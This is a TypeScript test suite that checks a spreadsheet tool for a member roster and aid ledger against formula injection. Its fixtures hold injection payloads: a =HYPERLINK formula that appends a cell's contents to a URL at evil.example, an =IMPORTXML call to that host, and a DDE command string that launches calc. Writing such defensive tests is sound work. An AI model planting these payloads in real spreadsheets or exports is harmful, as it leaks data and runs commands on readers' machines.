import type { MemoryWorkbook } from '../../runner/workbook';
import { answering, runBundle, sampleWorkbook } from '../support/offlineBundle';
import { setCell, setSetting } from '../support/noticeWorkbook';

// A value a member or an export supplied must stay the text it was, whatever action writes it
// back: never a formula (=HYPERLINK could leak data or phish), never a number (+86…).
const EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&B2,"点我领取")';
const EVIL_LEDGER_NAME = '=HYPERLINK("http://evil.example","王秀英")';

/** The sample, but with 会员名册 and 帮扶台账 as a clerk's own sheets: no text (@) formats. */
function clerkMadeWorkbook(): MemoryWorkbook {
  const wb = sampleWorkbook();
  for (const name of ['会员名册', '帮扶台账']) {
    const sheet = wb.sheet(name)!;
    sheet.columnFormats.clear();
    for (const [r, c] of [...sheet.formats.entries()]) sheet.formats.set(r, c, undefined);
  }
  setSetting(wb, '管理员', 'clerk@example.edu.cn');
  // Typed by a clerk as text (with Sheets' leading apostrophe, which the cell does not keep) on the
  // first data row: 001000 王秀英 and her application BF2023-001.
  setCell(wb, '会员名册', 2, '姓名', EVIL_NAME);
  setCell(wb, '会员名册', 2, '标签', '+cmd|" /C calc"!A0');
  setCell(wb, '帮扶台账', 2, '姓名', EVIL_LEDGER_NAME);
  setCell(wb, '帮扶台账', 2, '病种', '@SUM(1+1)');
  return wb;
}

const formulasIn = (wb: MemoryWorkbook) => wb.sheets.flatMap((s) => [...s.formulas.entries()].map(([r, c, f]) => `${s.name}!${r},${c} ${f}`));

function cellOf(wb: MemoryWorkbook, sheet: string, key: string, header: string): unknown {
  const rows = wb.sheet(sheet)!.dump();
  return rows.find((r) => r[0] === key)?.[rows[0].indexOf(header)];
}

describe('formula injection: cell values are never interpreted when written back', () => {
  const wb = clerkMadeWorkbook();
  const run = runBundle({ workbook: wb, user: 'clerk@example.edu.cn', responder: answering('YES') });
  run.call('apiImport', {
    into: '会员名册',
    rows: [
      ['工号', '姓名', '手机', '分会', '标签', '会员状态'],
      ['009001', '=1+1', '+44 20 7946 0958', '-机关分会', '@劳模', '在册'],
      ['009002', EVIL_NAME, '13800000000', '=IMPORTXML("http://evil.example","//a")', '', '在册'],
    ],
    apply: true,
  });
  run.call('apiCheckAid');
  run.call('apiGenerateFestivals', { year: 2024 });
  run.call('menuProtectSheets');

  it('leaves no formula anywhere in the workbook', () => {
    expect(formulasIn(wb)).toEqual([]);
  });

  it('keeps imported names, phones and branches as the exact text', () => {
    expect(cellOf(wb, '会员名册', '009001', '姓名')).toBe('=1+1');
    expect(cellOf(wb, '会员名册', '009001', '手机')).toBe('+442079460958'); // spaces go (one phone form), the + stays text
    expect(cellOf(wb, '会员名册', '009001', '分会')).toBe('-机关分会');
    expect(cellOf(wb, '会员名册', '009001', '标签')).toBe('@劳模');
    expect(cellOf(wb, '会员名册', '009002', '姓名')).toBe(EVIL_NAME);
    expect(cellOf(wb, '会员名册', '009002', '分会')).toBe('=IMPORTXML("http://evil.example","//a")');
  });

  it('never rewrites the clerk’s own formula-like cells', () => {
    expect(cellOf(wb, '会员名册', '001000', '姓名')).toBe(EVIL_NAME);
    expect(cellOf(wb, '会员名册', '001000', '标签')).toBe('+cmd|" /C calc"!A0');
    expect(cellOf(wb, '帮扶台账', 'BF2023-001', '姓名')).toBe(EVIL_LEDGER_NAME);
    expect(cellOf(wb, '帮扶台账', 'BF2023-001', '病种')).toBe('@SUM(1+1)');
  });

  it('quotes a formula-like name inside 说明 instead of starting the cell with it', () => {
    const note = String(cellOf(wb, '帮扶台账', 'BF2023-001', '说明'));
    expect(note).toContain(EVIL_LEDGER_NAME);
    expect(note).not.toMatch(/^[=+\-@]/);
  });
});
